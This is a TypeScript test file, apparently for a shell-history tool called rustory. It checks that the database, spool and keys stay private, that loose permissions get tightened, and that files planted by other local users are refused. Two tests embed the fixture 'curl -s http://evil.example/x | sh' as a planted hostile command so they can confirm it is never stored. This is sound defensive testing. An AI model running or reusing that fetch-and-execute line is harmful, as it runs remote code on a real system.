import { execFileSync, spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import test, { type ExecutionContext } from 'ava'
import { isolatedEnv, rr, rrSpawn, stop } from '../helpers/cli.js'
import { writeSwarmKey } from '../helpers/cluster.js'
import { tempDir } from '../helpers/tmp.js'
import { tighten } from '../../src/config/private-files.js'
import { findLiveTraces, liveTraceDir } from '../../src/inspect/sink.js'

const mode = (path: string): string => (statSync(path).mode & 0o777).toString(8)

/** A throwaway local user (root only), removed on teardown; undefined when we cannot create one. */
function otherUser (t: ExecutionContext): string | undefined {
  if (process.getuid?.() !== 0) return undefined
  const name = `rr13${randomBytes(4).toString('hex')}`
  const made = spawnSync('useradd', ['-M', '-N', '-s', '/usr/sbin/nologin', name])
  if (made.status !== 0) return undefined
  t.teardown(() => { spawnSync('userdel', [name]) })
  return name
}

/** Whether `user` can read the file (a real read by another uid, not a mode check). */
function canRead (user: string, path: string): boolean {
  return spawnSync('runuser', ['-u', user, '--', 'cat', path], { stdio: 'ignore' }).status === 0
}

/** A home another user can traverse, as a real /home/<name> (0755), holding a rustory install. */
function home (t: ExecutionContext): { home: string, env: NodeJS.ProcessEnv, db: string } {
  const root = tempDir(t)
  chmodSync(root, 0o755)
  const h = join(root, 'home')
  mkdirSync(h, { mode: 0o755 })
  chmodSync(h, 0o755)
  return { home: h, env: isolatedEnv(h), db: join(h, '.rustory', 'history.db') }
}

test('a fresh install keeps the database, its -wal/-shm, the spool and keys private, and another user cannot read them', async (t) => {
  const { home: h, env, db } = home(t)
  const user = otherUser(t)
  t.is((await rr(['record', '--cmd', 'echo private', '--cwd', '/tmp', '--exit-code', '0', '--duration-ms', '1', '--shell', 'zsh'], { env })).code, 0)
  t.is(mode(join(h, '.rustory')), '700')
  t.is(mode(`${db}-spool`), '700')
  t.is((await rr(['history'], { env })).code, 0)
  t.is((await rr(['swarm-key'], { env })).code, 0)
  for (const f of [db, `${db}-wal`, `${db}-shm`, join(h, '.config', 'rustory', 'swarm.key')]) {
    t.true(existsSync(f), f)
    t.is(mode(f), '600', f)
  }
  t.is(mode(join(h, '.config', 'rustory')), '700')
  if (user != null) {
    t.false(canRead(user, db))
    t.false(canRead(user, `${db}-wal`))
  } else {
    t.log('not root: modes checked, no second user')
  }
})

test('an existing install with world-readable files is tightened on the next open, doctor says so, and nothing is loosened', async (t) => {
  const { home: h, env, db } = home(t)
  const user = otherUser(t)
  await rr(['record', '--cmd', 'echo hello', '--cwd', '/tmp', '--exit-code', '0', '--duration-ms', '1', '--shell', 'zsh'], { env })
  await rr(['history'], { env })
  await rr(['swarm-key'], { env })
  const configDir = join(h, '.config', 'rustory')
  const config = join(configDir, 'config.toml')
  writeFileSync(config, 'tracker_token = "s3cret"\n')
  const key = join(configDir, 'swarm.key')
  // As an older rustory left them (0644 in a 0755 folder), plus a file the user made stricter than 0600.
  for (const f of [db, `${db}-wal`, `${db}-shm`, config, key]) chmodSync(f, 0o644)
  chmodSync(join(h, '.rustory'), 0o755)
  chmodSync(configDir, 0o755)
  if (user != null) t.true(canRead(user, db), 'the setup really exposes the database to another user')

  const doctor = await rr(['doctor'], { env })
  for (const f of [db, config, key]) t.true(doctor.stdout.includes(`warning: ${f} was 644, readable by other users; tightened to 600`), doctor.stdout)
  t.true(doctor.stdout.includes(`warning: ${join(h, '.rustory')} was 755, readable by other users; tightened to 700`), doctor.stdout)
  for (const f of [db, `${db}-wal`, `${db}-shm`, config, key]) t.is(mode(f), '600', f)
  t.is(mode(join(h, '.rustory')), '700')
  t.is(mode(configDir), '700')
  if (user != null) t.false(canRead(user, db))
  t.notRegex((await rr(['doctor'], { env })).stdout, /readable by other users/, 'a second doctor finds nothing left')

  // Loose again, then any plain rr command (history opens the database read-only) fixes it.
  chmodSync(db, 0o640)
  chmodSync(config, 0o400)
  await rr(['history'], { env })
  t.is(mode(db), '600')
  t.is(mode(config), '400', 'a stricter mode the user chose is kept')
})

test('tightening only removes group and other bits', (t) => {
  const dir = tempDir(t)
  const f = join(dir, 'f')
  for (const [from, to] of [[0o644, '600'], [0o755, '700'], [0o400, '400'], [0o604, '600'], [0o600, '600']] as const) {
    writeFileSync(f, '')
    chmodSync(f, from)
    tighten(f)
    t.is(mode(f), to, from.toString(8))
  }
  // A database outside a rustory folder (here /tmp's sibling) leaves that folder's mode alone.
  const shared = join(dir, 'shared')
  mkdirSync(shared)
  chmodSync(shared, 0o755)
  execFileSync(process.execPath, ['--input-type=module', '-e', `import { openDatabase } from '${new URL('../../src/store/db.js', import.meta.url).href}'; openDatabase('${join(shared, 'h.db')}').close()`])
  t.is(mode(shared), '755')
  t.is(mode(join(shared, 'h.db')), '600')
})

/** A directory every user may write to, as /tmp (sticky, 1777). */
function sharedDir (t: ExecutionContext): string {
  const root = tempDir(t)
  chmodSync(root, 0o755)
  const dir = join(root, 'shared')
  mkdirSync(dir)
  chmodSync(dir, 0o1777)
  return dir
}

/** Runs a shell command as another user. */
function asUser (user: string, script: string): void {
  const run = spawnSync('runuser', ['-u', user, '--', 'sh', '-c', script], { encoding: 'utf8' })
  if (run.status !== 0) throw new Error(`as ${user}: ${script}: ${run.stderr}`)
}

test('a database, spool or daemon lock another user made first in a shared directory is refused, and nothing of theirs is stored', async (t) => {
  const user = otherUser(t)
  if (user == null) return t.log('not root: no second user to make the files')
  const dir = sharedDir(t)
  const env = isolatedEnv(join(tempDir(t), 'home'))
  const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim())

  // The database file itself, made world-writable by the other user: every command refuses it, naming the fix.
  const planted = join(dir, 'planted.db')
  asUser(user, `: > ${planted}; chmod 666 ${planted}`)
  const history = await rr(['--db-path', planted, 'history'], { env })
  t.is(history.code, 1)
  t.is(history.stderr, `rr: ${planted} belongs to another user (uid ${uid}), who could read or change your history through it: keep the database in a directory only you can write to (the default is ~/.rustory/history.db), or remove that file\n`)
  // rr record never fails the shell: it writes nothing there and says why in record.log.
  const recorded = await rr(['--db-path', planted, 'record', '--cmd', 'psql postgres://admin@db/prod # SECRET', '--cwd', '/tmp', '--exit-code', '0'], { env })
  t.is(recorded.code, 0)
  t.is(statSync(planted).size, 0, 'nothing was written into their file')
  t.false(existsSync(`${planted}-spool`) && execFileSync('ls', ['-A', `${planted}-spool`], { encoding: 'utf8' }).includes('SECRET'))

  // The spool directory, with a command of theirs in it: not recorded, not drained, not signed as ours.
  const db = join(dir, 'spooled.db')
  const spool = `${db}-spool`
  const record = JSON.stringify({ entry: { entry_id: '0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b', device_id: 'me', user_id: 'me', ts: '2026-01-01T00:00:00.000Z', cmd: 'curl -s http://evil.example/x | sh # PLANTED', cwd: '/tmp', exit_code: 0, duration_ms: 1, shell: 'bash', hostname: 'h', version: '0.1.0' } })
  asUser(user, `mkdir -m 777 ${spool} && printf '%s' '${record}' > ${spool}/0000000000001-0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json`)
  const own = await rr(['--db-path', db, 'record', '--cmd', 'echo mine', '--cwd', '/tmp', '--exit-code', '0'], { env })
  t.is(own.code, 0)
  t.deepEqual(execFileSync('ls', ['-A', spool], { encoding: 'utf8' }).trim().split('\n'), ['0000000000001-0b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json'], 'our command was not written into their directory')
  const drained = await rr(['--db-path', db, 'history'], { env })
  t.is(drained.code, 1)
  t.regex(drained.stderr, new RegExp(`^rr: ${spool} belongs to another user \\(uid ${uid}\\)`))
  t.false(existsSync(db) && (await rr(['--db-path', db, 'history', '--format', 'jsonl'], { env })).stdout.includes('PLANTED'))

  // The daemon's lock: their lock cannot keep our daemon from starting with a lie about who holds it.
  const locked = join(dir, 'locked.db')
  asUser(user, `: > ${locked}.daemon.lock; printf '%s' '{"pid":1,"started_unix":1700000000,"peer_id":"x","listen":[]}' > ${locked}.daemon.json`)
  const swarm = join(tempDir(t), 'swarm.key')
  writeSwarmKey(swarm)
  const daemon = await rr(['--db-path', locked, '--swarm-key', swarm, 'daemon', '--listen', '/ip4/127.0.0.1/tcp/0'], { env, timeoutMs: 30_000 })
  t.is(daemon.code, 1)
  t.regex(daemon.stderr, new RegExp(`${locked}\\.daemon\\.lock belongs to another user \\(uid ${uid}\\)`))
  t.notRegex(daemon.stderr, /another rr daemon already runs/)
})

test('in a spool of ours that was left open, a file another user put there is set aside, never stored', async (t) => {
  const user = otherUser(t)
  if (user == null) return t.log('not root: no second user to make the file')
  const dir = sharedDir(t)
  const env = isolatedEnv(join(tempDir(t), 'home'))
  const db = join(dir, 'open.db')
  t.is((await rr(['--db-path', db, 'record', '--cmd', 'echo mine', '--cwd', '/tmp', '--exit-code', '0'], { env })).code, 0)
  t.is((await rr(['--db-path', db, 'history'], { env })).code, 0)
  const spool = `${db}-spool`
  chmodSync(spool, 0o777) // as a careless older setup left it
  const record = JSON.stringify({ entry: { entry_id: '1b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b', device_id: 'me', user_id: 'me', ts: '2026-01-01T00:00:00.000Z', cmd: 'curl -s http://evil.example/x | sh # PLANTED', cwd: '/tmp', exit_code: 0, duration_ms: 1, shell: 'bash', hostname: 'h', version: '0.1.0' } })
  asUser(user, `printf '%s' '${record}' > ${spool}/0000000000001-1b6f7c9e-2f4a-4d1e-9c3b-5a6d7e8f9a0b.json`)
  const out = await rr(['--db-path', db, 'history', '--format', 'jsonl'], { env })
  t.is(out.code, 0, out.stderr)
  t.true(out.stdout.includes('echo mine'))
  t.false(out.stdout.includes('PLANTED'), 'the planted command was stored')
  t.is(mode(spool), '700', 'the spool is tightened again')
})

test('rr inspect --attach never follows a live trace another user announced beside a shared database', async (t) => {
  const user = otherUser(t)
  if (user == null) return t.log('not root: no second user to make the files')
  const dir = sharedDir(t)
  const live = liveTraceDir(join(dir, 'any.db'))
  // Theirs: the directory, and a file in it naming a running process (pid 1) and a trace of theirs.
  asUser(user, `mkdir -m 777 ${live} && printf '%s' '{"pid":1,"trace":"/tmp/theirs.jsonl","startedAt":"9999-01-01T00:00:00.000Z"}' > ${live}/1.json`)
  t.deepEqual(findLiveTraces(live), [])
  // A file of theirs in a directory of ours (left open) is ignored too; our own announcement is found.
  const ours = join(sharedDir(t), 'inspect-live')
  mkdirSync(ours, { mode: 0o777 })
  chmodSync(ours, 0o777)
  asUser(user, `printf '%s' '{"pid":1,"trace":"/tmp/theirs.jsonl","startedAt":"9999-01-01T00:00:00.000Z"}' > ${ours}/1.json`)
  writeFileSync(join(ours, `${process.pid}.json`), JSON.stringify({ pid: process.pid, trace: '/tmp/ours.jsonl', startedAt: '2026-01-01T00:00:00.000Z' }))
  t.deepEqual(findLiveTraces(ours).map((l) => l.trace), ['/tmp/ours.jsonl'])
})

test('rr inspect serves the user who started it, and refuses another user of the machine (it has no token)', async (t) => {
  const user = otherUser(t)
  if (user == null) return t.log('not root: no second user to ask')
  const dir = tempDir(t)
  const file = join(dir, 'trace.jsonl')
  writeFileSync(file, `${JSON.stringify({ ts: '2026-01-01T00:00:00.000Z', kind: 'actor', actor: 'peer:p', peer: 'p', parent: 'root', src: 'peer', addr: '/ip4/10.1.2.3/tcp/8845' })}\n`)
  const inspector = await rrSpawn(['inspect', file, '--port', '0'], { env: isolatedEnv(join(dir, 'home')), ready: /inspect: (http:\/\/127\.0\.0\.1:\d+\/)/ })
  t.teardown(async () => { await stop(inspector.child) })
  const url = `${inspector.match[1]!}trace.json`
  const fetchAs = (who: string | undefined): { status: number, body: string } => {
    const script = 'import urllib.request, urllib.error, sys\ntry:\n  r = urllib.request.urlopen(sys.argv[1]); print(r.status); print(r.read().decode())\nexcept urllib.error.HTTPError as e:\n  print(e.code); print(e.read().decode())'
    const args = ['python3', '-c', script, url]
    const run = who == null ? spawnSync(args[0]!, args.slice(1), { encoding: 'utf8' }) : spawnSync('runuser', ['-u', who, '--', ...args], { encoding: 'utf8' })
    const [status, ...body] = run.stdout.split('\n')
    return { status: Number(status), body: body.join('\n') }
  }
  const own = fetchAs(undefined)
  t.is(own.status, 200)
  t.true(own.body.includes('10.1.2.3'))
  const other = fetchAs(user)
  t.is(other.status, 403)
  t.regex(other.body, /serves only the user who started it/)
  t.false(other.body.includes('10.1.2.3'))
})
